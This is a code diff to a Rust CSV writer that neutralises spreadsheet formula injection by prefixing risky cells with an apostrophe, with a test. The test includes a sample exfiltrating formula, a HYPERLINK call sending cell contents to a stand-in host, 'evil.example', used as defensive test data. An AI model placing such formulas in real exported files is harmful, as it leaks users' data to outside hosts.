@@ -168,17 +168,53 @@ pub fn read(bytes: &[u8]) -> Result<Table, CsvProblem> {
     })
 }
 
-/// A CSV for download: BOM so Excel reads it as UTF-8, CRLF line ends, quoted as needed.
+/// A CSV for download: BOM so Excel reads it as UTF-8, CRLF line ends, quoted as needed,
+/// and every cell [`inert`].
 pub fn write(headers: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
     let mut w = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::new());
-    let _ = w.write_record(headers);
+    let _ = w.write_record(headers.iter().map(|h| inert(h).into_owned()));
     for r in rows {
-        let _ = w.write_record(&r);
+        let _ = w.write_record(r.iter().map(|c| inert(c).into_owned()));
     }
     let bytes = w.into_inner().unwrap_or_default();
     format!("{BOM}{}", String::from_utf8(bytes).unwrap_or_default())
+}
+
+/// Characters that make a spreadsheet read a cell as a formula when it starts with one
+/// (OWASP, "CSV Injection"): `=HYPERLINK(…)` in a comment would run when the export is
+/// opened in Excel.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell a spreadsheet will show as text, never run: one starting with a formula
+/// character gets a leading `'`, which Excel and LibreOffice take as "this is text". A
+/// plain number (`-12.5`, `+3`) is left alone, so negative values stay numbers.
+/// [`read_text`] undoes it when such a file comes back.
+pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some(c) if FORMULA_START.contains(&c) && !is_plain_number(cell) => {
+            std::borrow::Cow::Owned(format!("'{cell}"))
+        }
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
+}
+
+/// A text cell as read from a file Mipaka may have written: the `'` that [`inert`] put
+/// before a formula character is taken off again, so an export re-imports unchanged.
+pub fn read_text(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) && !is_plain_number(rest) => rest,
+        _ => cell,
+    }
+}
+
+fn is_plain_number(s: &str) -> bool {
+    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
+    !digits.is_empty()
+        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
+        && digits.chars().filter(|c| *c == '.').count() <= 1
+        && digits.chars().any(|c| c.is_ascii_digit())
 }
 
 /// A number as typed in a file with this separator: in `;` files a comma is the
@@ -229,6 +265,41 @@ mod tests {
         assert_eq!(e.line, 3);
         assert!(e.message.contains("UTF-8"));
         assert!(read(b"  \n").unwrap_err().message.contains("empty"));
+    }
+
+    #[test]
+    fn formulas_are_written_as_text_and_numbers_as_numbers() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "'=HYPERLINK",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A2)", "'@SUM"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("-", "'-"),
+            ("- a dash list", "'- a dash"),
+        ] {
+            assert!(
+                inert(cell).starts_with(written),
+                "{cell:?} → {}",
+                inert(cell)
+            );
+            assert_eq!(read_text(&inert(cell)), cell, "{cell:?} comes back");
+        }
+        for plain in [
+            "-12.5", "+3", "-0.25", "12", "Turkana", "a=b", "", "'quoted",
+        ] {
+            assert_eq!(inert(plain), plain, "{plain:?} is left alone");
+            assert_eq!(read_text(plain), plain);
+        }
+        let s = write(
+            &["value", "comment"],
+            vec![vec!["-4".into(), "=1+1".into()]],
+        );
+        assert!(s.contains("-4,'=1+1\r\n"), "{s}");
     }
 
     #[test]
